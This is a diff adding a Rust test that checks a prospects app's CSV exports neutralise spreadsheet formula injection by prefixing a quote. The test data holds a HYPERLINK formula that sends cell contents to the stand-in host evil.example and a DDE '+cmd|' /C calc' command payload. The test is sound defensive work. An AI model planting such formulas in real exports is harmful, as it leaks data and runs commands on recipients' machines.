@@ -251,7 +251,52 @@ async fn deliveries_and_export_routes(store: SharedStore) {
     );
 }
 
+/// Cells a spreadsheet would run as formulas leave both exports with a leading `'`;
+/// phone numbers stay numbers; the export re-imports to the same values.
+async fn formula_cells_leave_neutralised(store: SharedStore) {
+    let app = seeded(Arc::clone(&store)).await;
+    let file = "invoice_contact_name,invoice_company,invoice_phone,invoice_tags\r\n\
+        \"=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\",+cmd|' /C calc'!A0,+32470999888,@SUM(1+1)\r\n";
+    let (status, r) = upload(&app, "/api/prospects/upload", file).await;
+    assert_eq!((status, r["imported"].as_u64()), (200, Some(1)), "{r}");
+    let (status, _) = call(
+        &app,
+        "PATCH",
+        "/api/prospects/phone/+32470999888/opt-out",
+        Some(r#"{"opt_out": true, "reason": "-2+3 said the model"}"#),
+    )
+    .await;
+    assert_eq!(status, 200);
+    let (_, _, csv) = call_raw(&app, "/api/prospects/export.csv").await;
+    let row = csv
+        .lines()
+        .find(|l| l.starts_with("\"'="))
+        .expect("the formula row");
+    assert!(
+        row.starts_with("\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\",'+cmd|' /C calc'!A0,"),
+        "{row}"
+    );
+    assert!(
+        row.contains(",+32470999888,") && row.contains(",'@sum(1+1),"),
+        "{row}"
+    );
+    let (_, _, dnc) = call_raw(&app, "/api/dnc/export.csv").await;
+    assert!(dnc.contains("+32470999888,'-2+3 said the model,"), "{dnc}");
+    // Re-imported, the export changes nothing: the `'` comes off again.
+    let (_, again) = upload(&app, "/api/prospects/upload", &csv).await;
+    assert_eq!(
+        again["failed_items"].as_array().map(Vec::len),
+        Some(0),
+        "{again}"
+    );
+    let (_, rows) = call(&app, "GET", "/api/prospects", None).await;
+    let names = names(&rows);
+    assert_eq!(names.len(), 3, "{names:?}");
+    assert!(names.contains(&"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")".to_owned()));
+}
+
 common::on_both_stores! {
+    formula_cells_on_sqlite, formula_cells_on_mongo => formula_cells_leave_neutralised;
     templates_and_dnc_on_sqlite, templates_and_dnc_on_mongo => templates_and_dnc;
     dnc_import_on_sqlite, dnc_import_on_mongo => dnc_import_route;
     deliveries_and_export_on_sqlite, deliveries_and_export_on_mongo => deliveries_and_export_routes;
